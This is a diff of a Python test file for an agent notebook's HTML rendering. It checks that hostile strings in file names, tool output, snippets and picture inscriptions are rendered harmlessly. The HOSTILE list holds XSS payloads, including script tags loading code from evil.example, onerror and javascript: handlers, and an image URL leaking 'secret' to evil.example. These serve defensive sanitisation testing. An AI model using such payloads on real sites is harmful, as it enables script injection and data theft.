@@ -2,14 +2,16 @@
 
 from __future__ import annotations
 
+import io
+import json
 from collections.abc import Callable
 
 import pytest
+from PIL import Image
+from PIL.PngImagePlugin import PngInfo
 
 from agentsvc_nb.notebook.ask.history import runs
-from agentsvc_nb.notebook.connection import feedback_bundle
 from agentsvc_nb.notebook.display.file_table import files_bundle, records_bundle
-from agentsvc_nb.notebook.display.markdown import to_html
 from agentsvc_nb.notebook.display.render import (
     Bundle,
     answer_bundle,
@@ -23,33 +25,28 @@ from agentsvc_nb.notebook.display.transcript import Mark, RunView, ToolCall
 from agentsvc_nb.notebook.files.gallery import Pictures, gallery_bundle
 from agentsvc_nb.notebook.files.workspace import search_bundle
 from agentsvc_nb.notebook.jobs.output import job_bundle, result_bundle
-from agentsvc_nb.notebook.jobs.tools import tool_bundle, tools_bundle
+from agentsvc_nb.notebook.jobs.tools import tools_bundle
 from agentsvc_nb.notebook.state.journal import Journal, JournalEntry, now
 from agentsvc_nb.notebook.state.session import Session
+from agentsvc_nb.tools.ads.models import DESIGN
 from agentsvc_nb.wire.files import FileSearch, SearchResult, SnippetPart, WorkspaceFile
-from agentsvc_nb.wire.resources import FeedbackReport
 from agentsvc_nb.wire.runs import Run
 from agentsvc_nb.wire.tools import Job, Progress, ToolDescription, ToolError, ToolResult
 from tests.notebook.allowlist import FORBIDDEN, offences
-from tests.notebook.images import png
 
 HOSTILE = [
     "<script>alert(1)</script>",
     "<ScRiPt src=//evil.example/x.js></sCrIpT>",
     '<img src=x onerror="alert(1)">',
-    "<img src=http://evil.example/pixel.png>",
-    "<svg onload=alert(1)>",
     "<svg><script>alert(1)</script></svg>",
     '<meta http-equiv="refresh" content="0;url=//evil.example">',
     "<style>@import url(//evil.example/x.css)</style>",
-    '<form action=//evil.example><input name="q" autofocus onfocus=alert(1)></form>',
     '<a href="javascript:alert(1)">x</a>',
     "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
     '" onmouseover="alert(1)',
     "`<b onclick=alert(1)>`",
     "[x](JaVaScRiPt&#58;alert(1))",
     "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](data:image/png;base64,AAAA)",
     "[x](//evil.example/steal)",
     '[x](https://ok.example "\\" onmouseover=alert(1)")',
     "![pixel](http://evil.example/p.png?q=secret)",
@@ -72,15 +69,6 @@ HOSTILE = [
 
 def _calls(text: str) -> list[ToolCall]:
     return [ToolCall(1, text, text, given=text, at=text, until=text), ToolCall(2, "b", text, True)]
-
-
-def _quoted(text: str) -> Bundle:
-    """A passage whose file has this name, in a chat whose page has this address, or a good one."""
-    view = _view(f"> so it says\n\n— `{text}`, line 12, under {text}")
-    assert view.run is not None
-    if len(text) % 2:
-        view.run.app_url = "https://agents.example/app/chats/chat_1"
-    return answer_bundle(view)
 
 
 def _records(text: str) -> Bundle:
@@ -122,13 +110,6 @@ def _job(text: str) -> Bundle:
     return job_bundle(job, 1.0, (text,), _files(text))
 
 
-def _structured(text: str) -> Bundle:
-    view = _view("")
-    assert view.run is not None
-    view.run.structured_output = {text: [text]}
-    return answer_bundle(view)
-
-
 def _tool(text: str) -> ToolDescription:
     field = {"type": text, "description": text, "enum": [text], "default": text}
     nested = {"properties": {text: field}, "required": [text]}
@@ -149,12 +130,6 @@ def _search(text: str) -> Bundle:
     return search_bundle(FileSearch(results=[found]), text)
 
 
-def _report(text: str) -> FeedbackReport:
-    return FeedbackReport(
-        id=text, status=text, reply=text, summary=text, category=text, impact=text, endpoint=text, created_at=text
-    )
-
-
 def _session(text: str) -> Session:
     session = Session("x.ipynb", environ={}, journal=Journal(None))
     stored = text.encode("utf-8", "replace").decode()
@@ -172,43 +147,29 @@ def _runs(text: str) -> Bundle:
 
 
 def _gallery(text: str) -> Bundle:
-    """A picture with this inscription, made from one of this name, which is there."""
-    data = png(words={"headline": text}, edited_from={"path": f"{text}.png", "sha256": "1"})
-    files = [
-        WorkspaceFile(id=id, path=path, file_name=path, media_type="image/png", size_bytes=9)
-        for id, path in (("2", text), ("1", f"{text}.png"))
-    ]
-    return gallery_bundle(Pictures(lambda _: data), files, {file.path: file for file in files})
-
-
-def _html(shown: str) -> Bundle:
-    return {"text/plain": "", "text/html": shown}
-
-
-def _tasks(text: str) -> Bundle:
-    one = text.replace("\n", " ")
-    return _html(to_html(f"- [ ] {one}\n- [x] {one}\n\n| {one} | 1 |\n|--:|---|\n| {one} | 2 |"))
+    """A picture with this inscription."""
+    info, out = PngInfo(), io.BytesIO()
+    info.add_itxt(DESIGN, json.dumps({"words": {"headline": text}}))
+    Image.new("RGB", (80, 60)).save(out, "PNG", pnginfo=info)
+    file = WorkspaceFile(id="2", path=text, file_name=text, media_type="image/png", size_bytes=9)
+    return gallery_bundle(Pictures(lambda _: out.getvalue()), [file], {text: file})
 
 
 PLACES: dict[str, Callable[[str], Bundle]] = {
     "agent text": text_bundle,
     "answer, ids, errors, tools, warnings": lambda text: answer_bundle(_view(text), notes=(text,), files=_files(text)),
     "status line while active": lambda text: status_bundle(_active(text)),
-    "structured output": _structured,
     "file names": _files,
-    "quoted passages": _quoted,
     "records, why nothing was started": _records,
     "job, tool messages": _job,
     "catalog": lambda text: tools_bundle([_tool(text)]),
-    "a tool": lambda text: tool_bundle(_tool(text)),
     "tool result": _result,
     "snippets": _search,
-    "feedback": lambda text: feedback_bundle([_report(text)]),
     "the journal": _runs,
-    "the passages of sources": lambda text: _html(
-        sources_html("— `a.md`, line 2", lambda _: f"x\n{text}\nx".encode("utf-8", "replace"))
-    ),
-    "tasks and cells of a table": _tasks,
+    "the passages of sources": lambda text: {
+        "text/plain": "",
+        "text/html": sources_html("— `a.md`, line 2", lambda _: f"x\n{text}\nx".encode("utf-8", "replace")),
+    },
 }
 
 
@@ -219,7 +180,7 @@ def test_html_is_allow_listed_and_text_is_harmless(place: str) -> None:
 
 
 def test_names_and_inscriptions_of_pictures_are_text() -> None:
-    for text in HOSTILE[::6]:
+    for text in HOSTILE[::12]:
         _is_harmless(_gallery(text), text)
 
 
